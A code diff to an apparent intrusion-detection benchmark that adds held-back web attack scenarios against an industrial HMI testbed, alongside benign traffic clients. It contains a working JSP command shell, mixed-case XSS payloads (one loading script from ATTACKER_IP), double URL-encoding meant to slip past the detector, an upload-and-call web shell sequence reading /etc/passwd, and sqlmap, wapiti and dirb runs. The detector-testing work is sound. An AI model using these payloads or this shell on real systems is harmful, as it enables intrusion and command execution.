@@ -38,9 +38,41 @@ Benign web clients (any alert is a false one):
 * ``dashboard_refresh``: this module's ``dashboard`` client as a browser tab shows the overview: the
   values API every 2 s, the page reloaded every 10 s with conditional requests for its assets (304)
 
+Held-back variants (:func:`held_back_scenarios`): they exist to check the detector on tool runs it
+was not developed on. The ``web_attack`` rule was written looking at the captures of the scenarios
+above; these run the same kinds of tools with other options, payloads and wordlists, and their
+captures were not looked at before the rule was fixed, so their verdicts are a held-back measurement
+(never tune the rule on them, or they stop being one):
+
+* ``sqlmap_time_tamper``: sqlmap on the login form's ``user`` only, time-based blind only
+  (``--technique=T``), its payloads rewritten by ``--tamper=space2comment,between,randomcase``;
+  injection
+* ``sqlmap_union_get``: sqlmap ``--technique=U --level 2`` on the report page's ``tag`` (GET); injection
+* ``wapiti_exec_file``: wapiti ``-m exec,file`` (command execution and file handling); information
+  gathering (a vulnerability scanner)
+* ``wapiti_sql_only``: wapiti ``-m sql``; injection
+* ``gobuster_small_slow``: gobuster dir with dirb's ``small.txt``, 2 threads, 50 ms between requests;
+  information gathering
+* ``dirb_extensions``: dirb with ``small.txt`` and ``-X .php,.bak``; information gathering
+* ``nmap_http_enum``: ``nmap -n -p80 --script http-enum,http-headers,http-methods``; information
+  gathering
+* ``curl_xss_encoded``: curl posting a short list of XSS payloads (not ``xss_payloads``' list) in
+  mixed case, double URL-encoded with mixed-case hex, in the bodies of the login and search forms;
+  injection
+* ``upload_exe_put``: curl uploading an executable (a copy of ``/bin/true`` named ``tool.exe``) and a
+  JSP shell through the upload form, trying an HTTP PUT of the shell, then calling it; injection
+
+and benign, where any alert is a false one:
+
+* ``api_client_bulk``: this module's ``bulk`` client: the JSON API 5 times a second for 30 s with long
+  query strings whose values are plain English holding SQL's words (``q=select pumps from area 3``,
+  ``order=by name``, ``update``, ``where``...), as an operator's search box sends them
+* ``browser_many_assets``: wget fetching every HMI page with its page requisites (``-p``, no
+  recursion), 6 rounds 3 s apart
+
 Run as a program, this module is those clients::
 
-    python bench/web_scenarios.py {xss,rest,dashboard} VICTIM_IP [--seconds N]
+    python bench/web_scenarios.py {xss,rest,dashboard,bulk} VICTIM_IP [--seconds N]
 """
 
 from __future__ import annotations
@@ -49,6 +81,7 @@ import argparse
 import http.client
 import os
 import random
+import re
 import shutil
 import subprocess
 import sys
@@ -134,6 +167,107 @@ def web_scenarios() -> list[Scenario]:
         Scenario("nc_reverse_shell", MALWARE, ("sh", "-c", listener), 60,
                  f"netcat: the victim's shell connected to the attacker's listener, {len(SHELL_COMMANDS)} "
                  "commands typed", "netcat-openbsd", ("sh", "-c", victim_shell), ("nc",)),
+    ]
+
+
+# A JSP shell as a web shell kit carries it (never run: the HMI only stores and serves bytes).
+JSP_SHELL = ('<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); if (c != null) { '
+             'Process p = Runtime.getRuntime().exec(c); BufferedReader r = new BufferedReader(new '
+             'InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) { '
+             'out.println(l); } } %><form method=get><input name=cmd></form>')
+
+# XSS payloads for the held-back curl scenario, written apart from xss_payloads(): other tags, handlers
+# and sinks, each in mixed case.
+XSS_HELD_BACK = (
+    "<ImG sRc=x OnErRoR=prompt(document.domain)>",
+    "<SvG/OnLoAd=confirm(1)>",
+    "<BoDy OnPaGeShOw=alert(1)>",
+    '<iFrAmE SrC="JaVaScRiPt:alert(1)"></iFrAmE>',
+    '<a HrEf="jAvAsCrIpT:alert(document.cookie)">report</a>',
+    '"><ScRiPt SrC=//' + ATTACKER_IP + "/h.js></ScRiPt>",
+    "<InPuT OnFoCuS=alert(1) AuToFoCuS>",
+    "<dEtAiLs OpEn OnToGgLe=alert(1)>",
+    "<StYlE>@import'jAvAsCrIpT:alert(1)';</StYlE>",
+    "<TaBlE BaCkGrOuNd=\"javascript:alert(1)\">",
+    "<ScRiPt>eval(atob('YWxlcnQoMSk='))</ScRiPt>",
+    "<DiV StYlE=\"width:eXpReSsIoN(alert(1))\">",
+    "<SvG><AnImAtE OnBeGiN=alert(1) attributeName=x dur=1s>",
+    "<img src=x:alert(alt) OnErRoR=eval(src) alt=0>",
+    "'-ToP['aL'+'eRt'](1)-'",
+    "<MaTh><MtExT><TaBlE><MgLyPh><StYlE><!--</StYlE><ImG TiTlE=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 "
+    "onerror=alert(1)&gt;\">",
+)
+
+
+def double_encoded(text: str, rnd: random.Random) -> str:
+    """``text`` percent-encoded twice (``<`` becomes ``%253C``), hex digits in mixed case."""
+    twice = urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
+    return re.sub(r"%25[0-9A-F]{2}|%[0-9A-F]{2}", lambda m: m[0].lower() if rnd.random() < 0.5 else m[0], twice)
+
+
+def held_back_scenarios() -> list[Scenario]:
+    """The held-back variants (see the module docstring): the same kinds of tools run otherwise, to
+    check the detector on tool runs it was not developed on. Benign ones first, as in
+    :func:`web_scenarios`."""
+    v, a = VICTIM_IP, ATTACKER_IP
+    hmi = f"http://{v}/"
+    me = (sys.executable, str(HERE / "web_scenarios.py"))
+    report = f"{hmi}report?tag=PT101&from=2026-12-07T00:00&to=2026-12-07T06:00"
+    pages = [hmi, f"{hmi}index.html", f"{hmi}login", f"{hmi}search?q=pump", f"{hmi}upload", f"{hmi}api/v1/tags",
+             *(f"{hmi}report?tag={t}&from=2026-12-07T00:00&to=2026-12-07T06:00"
+               for t in ("PT101", "PT102", "FT201", "TT301", "LT401", "SP501"))]
+    wget = (f"wget -q --page-requisites --delete-after -P {{work}}/assets --user-agent '{BROWSER_UA}' "
+            + " ".join(f"'{u}'" for u in pages))
+    rnd = random.Random(20261208)
+    xss_posts = " ".join(
+        f"curl -s -o /dev/null --data-raw '{field}={double_encoded(p, rnd)}{rest}' {hmi}{path}; sleep 0.3;"
+        for p in XSS_HELD_BACK for path, field, rest in (("login", "user", "&pass=x"), ("search", "q", "")))
+    upload = " ".join([
+        "cp /bin/true {work}/tool.exe; printf '%s' \"$1\" > {work}/shell.jsp;",
+        f"curl -s -o /dev/null {hmi}upload; sleep 1;",
+        f"curl -s -o /dev/null -F file=@{{work}}/tool.exe -F comment=tool {hmi}upload; sleep 1;",
+        f"curl -s -o /dev/null -F file=@{{work}}/shell.jsp -F comment=report {hmi}upload; sleep 1;",
+        f"curl -s -o /dev/null -T {{work}}/shell.jsp {hmi}uploads/shell.jsp; sleep 1;",
+        *(f"curl -s -o /dev/null '{hmi}uploads/shell.jsp?cmd={urllib.parse.quote(c)}'; sleep 0.5;"
+          for c in ("id", "hostname", "uname -a", "cat /etc/passwd")),
+        f"curl -s -o /dev/null {hmi}uploads/tool.exe",
+    ])
+    small = str(WORDLISTS / "small.txt")
+    return [
+        Scenario("api_client_bulk", None, (*me, "bulk", v, "--seconds", "30"), 40,
+                 "python: the JSON API 5 times a second for 30 s, plain English query values with SQL's words"),
+        Scenario("browser_many_assets", None, _loop(wget, 3, times=6), 90,
+                 f"wget -p of all {len(pages)} HMI pages, 6 rounds 3 s apart", "wget", needs=("wget",)),
+        Scenario("sqlmap_time_tamper", INJECTION, ("sqlmap", "-u", f"{hmi}login", "--data", "user=admin&pass=x", "-p",
+                                                   "user", "--technique=T",
+                                                   "--tamper=space2comment,between,randomcase", "--batch",
+                                                   "--flush-session", "--output-dir", "{work}/sqlmap-t"), 180,
+                 "sqlmap: login form's user only, time-based only, three tamper scripts, stopped after 180 s",
+                 "sqlmap"),
+        Scenario("sqlmap_union_get", INJECTION, ("sqlmap", "-u", report, "-p", "tag", "--technique=U", "--level",
+                                                 "2", "--batch", "--flush-session", "--output-dir",
+                                                 "{work}/sqlmap-u"), 180,
+                 "sqlmap: the report page's tag (GET), UNION only, level 2, stopped after 180 s", "sqlmap"),
+        Scenario("wapiti_exec_file", INFO, ("wapiti", "-u", hmi, "-m", "exec,file", "--flush-session",
+                                            "--max-scan-time", "150", "-f", "txt", "-o", "{work}/wapiti-ef.txt"), 180,
+                 "wapiti -m exec,file (at most 150 s)", "wapiti"),
+        Scenario("wapiti_sql_only", INJECTION, ("wapiti", "-u", hmi, "-m", "sql", "--flush-session",
+                                                "--max-scan-time", "150", "-f", "txt", "-o", "{work}/wapiti-sql.txt"),
+                 180, "wapiti -m sql (at most 150 s)", "wapiti"),
+        Scenario("gobuster_small_slow", INFO, ("gobuster", "dir", "-q", "-u", hmi, "-w", small, "-t", "2", "--delay",
+                                               "50ms", "-o", "{work}/gobuster-small.txt"), 180,
+                 "gobuster dir with dirb's small.txt (959 words), 2 threads, 50 ms delay", "gobuster dirb",
+                 needs=("gobuster", "dirb")),
+        Scenario("dirb_extensions", INFO, ("dirb", hmi, small, "-X", ".php,.bak", "-S", "-o", "{work}/dirb-ext.txt"),
+                 240, "dirb with small.txt and -X .php,.bak, one request at a time", "dirb"),
+        Scenario("nmap_http_enum", INFO, ("nmap", "-n", "-p80", "--script", "http-enum,http-headers,http-methods",
+                                          v), 180, "nmap -p80 --script http-enum,http-headers,http-methods"),
+        Scenario("curl_xss_encoded", INJECTION, ("sh", "-c", xss_posts), 60,
+                 f"curl: {len(XSS_HELD_BACK)} mixed-case XSS payloads, double URL-encoded, in the login and search "
+                 "forms' POST bodies", "curl", needs=("curl",)),
+        Scenario("upload_exe_put", INJECTION, ("sh", "-c", upload, "upload", JSP_SHELL), 60,
+                 f"curl: tool.exe (/bin/true) and a JSP shell through the upload form, a PUT of the shell, then "
+                 f"shell commands (from {a})", "curl", needs=("curl",)),
     ]
 
 
@@ -276,9 +410,48 @@ def dashboard(victim: str, seconds: float) -> None:
         time.sleep(2)
 
 
+# Plain English an operator types into a search box and a report's sort order: SQL's words, no SQL.
+BULK_QUERIES = (
+    {"q": "select pumps from area 3", "order": "by name"},
+    {"q": "update rate from the historian for line 1", "order": "by tag"},
+    {"q": "select all tanks where level is low", "order": "by level then by name"},
+    {"q": "pumps and valves from area 2 or area 3", "order": "newest first"},
+    {"q": "alarms from last shift, update pending", "order": "by priority"},
+    {"q": "drop in pressure from pump 1 to pump 2", "order": "by time"},
+    {"q": "select the values from tank 1 and tank 2", "order": "by value desc"},
+    {"q": "insert new recipe for batch 7 into the queue", "order": "by batch"},
+)
+
+
+def bulk(victim: str, seconds: float) -> None:
+    """The JSON API 5 times a second over one kept-alive connection, each query a long one whose
+    values are plain English holding SQL's words."""
+    conn = http.client.HTTPConnection(victim, 80, timeout=5)
+    end = time.monotonic() + seconds
+    n = 0
+    while time.monotonic() < end:
+        now = time.time()
+        words = BULK_QUERIES[n % len(BULK_QUERIES)]
+        path = "/api/v1/tags" if n % 4 == 3 else "/api/v1/values"
+        query = urllib.parse.urlencode({
+            **words, "tags": "PT101,PT102,FT201,TT301,LT401,SP501", "area": "line-1/pumping",
+            "from": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now - 3600)),
+            "to": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now)),
+            "fields": "tag,value,unit,quality,ts", "limit": "500", "page": str(n % 7 + 1), "client": "ops-report"})
+        try:
+            conn.request("GET", f"{path}?{query}", headers={"User-Agent": "plant-ops-report/3.4",
+                                                            "Accept": "application/json"})
+            conn.getresponse().read()
+        except (OSError, http.client.HTTPException):
+            conn.close()
+            conn = http.client.HTTPConnection(victim, 80, timeout=5)
+        n += 1
+        time.sleep(max(0.0, 0.2 - (time.time() - now)))
+
+
 def main(argv: list[str] | None = None) -> None:
     ap = argparse.ArgumentParser(description="the web scenarios' clients")
-    ap.add_argument("client", choices=["xss", "rest", "dashboard"])
+    ap.add_argument("client", choices=["xss", "rest", "dashboard", "bulk"])
     ap.add_argument("victim")
     ap.add_argument("--seconds", type=float, default=30.0)
     args = ap.parse_args(argv)
@@ -286,6 +459,8 @@ def main(argv: list[str] | None = None) -> None:
         xss(args.victim)
     elif args.client == "rest":
         rest(args.victim, args.seconds)
+    elif args.client == "bulk":
+        bulk(args.victim, args.seconds)
     else:
         dashboard(args.victim, args.seconds)
 
